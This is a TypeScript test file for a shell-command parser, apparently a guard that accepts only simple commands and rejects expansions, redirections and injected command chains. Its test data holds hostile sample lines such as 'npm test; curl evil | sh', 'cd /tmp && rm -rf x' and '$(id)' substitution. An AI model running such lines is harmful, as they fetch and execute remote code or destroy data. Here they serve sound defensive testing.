import * as fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { parseCommand } from './parse-command.ts'

describe('a command line whose words are all known is read', () => {
  test.each([
    ['npm test', ['npm', 'test']],
    [`git commit -m 'a b' "c d"`, ['git', 'commit', '-m', 'a b', 'c d']],
    ['a && b || c; d', ['a', '\0&&', 'b', '\0||', 'c', '\0;', 'd']],
    ['a; b | c && d', ['a', '\0;', 'b', '\0|', 'c', '\0&&', 'd']],
    ['a &&\n b;', ['a', '\0&&', 'b']],
    ['ls -la ./src/été.ts', ['ls', '-la', './src/été.ts']],
    ['seq 12', ['seq', '12']],
    ['a\nb', ['a', '\0;', 'b']],
    ['npm   test ', ['npm', 'test']],
    [`echo ''`, ['echo', '']],
    ['cat a.txt | wc -l', ['cat', 'a.txt', '\0|', 'wc', '-l']],
    ['cd /tmp', ['cd', '/tmp']],
  ])('%s', async (line, commands) => {
    expect(await parseCommand(line)).toEqual(commands)
  })
})

describe('everything else matches nothing', () => {
  test.each([
    'echo $HOME',
    'echo "$HOME"',
    'echo `id`',
    'echo $(id)',
    'echo "a$(id)"',
    'cat < x',
    'cat > x',
    'a <<< x',

    'ls *.ts',
    'ls [ab]',
    'ls a?',
    'echo a{1,2}',
    'echo ~/x',
    'ls a:~',
    'FOO=1 bar',
    'FOO=1',
    '! a',
    'a & b',
    'a &',
    'a |& b',
    'echo <(x)',
    '(a)',
    '{ a; }',
    'if a; then b; fi',
    'x() { y; }',
    "echo $'a'",
    'echo a\\ b',

    'echo "a\\"b"',
    'echo !!',
    'echo "!x"',
    '# hi',
    'a # hi',
    'echo ab"c"d',
    'echo @(a)',
    'a <<E\nx\nE',
    '',
    ' ',
    ';',

    'cd /tmp && rm -rf x',
    'export A && b',
    'time cd /tmp && rm -rf x',
    'eval x; y',
    'echo "',
    'a 2>&1',
    'a\0b',
    '\\ a',
    'a \\\n b',
    'a\rb',
    'a\u00a0b',
    'a \u2003 b',
    'a\fb',
    'while a; do b; done',
    '[[ a ]]',
  ])('%j', async (line) => {
    expect(await parseCommand(line)).toBeNull()
  })
})

it('`npm test; curl evil | sh` is not `npm test`, and a line is not its parts', async () => {
  const lines = [
    'npm test',
    'npm test; curl evil | sh',
    'npm test && curl evil',
    'curl evil && npm test',
    'curl evil',
  ]
  const read = await Promise.all(lines.map(async (line) => JSON.stringify(await parseCommand(line))))
  expect(new Set(read).size).toBe(lines.length)
})

it('a quoted pipe sign is an argument, and no pipeline', async () => {
  expect(await parseCommand(`echo '|' sh`)).toEqual(['echo', '|', 'sh'])
  expect(await parseCommand('echo | sh')).toEqual(['echo', '\0|', 'sh'])
})

it('no text whatever makes it throw, and what it reads holds no sign that a shell would act on', async () => {
  const signs = fc.constantFrom(...'ab $`"\'\\;&|<>(){}[]*?~!#=\n\t0-'.split(''))
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: signs, maxLength: 30 }), async (line) => {
      const commands = await parseCommand(line)
      const quoted = /['"]/.test(line)
      if (commands !== null && !quoted) {
        for (const word of commands)
          if (!word.startsWith('\0')) expect(word).toMatch(/^[\p{L}\p{N}_@%+=:,./-]+$/u)
      }
    }),
    { numRuns: 2000 },
  )
})
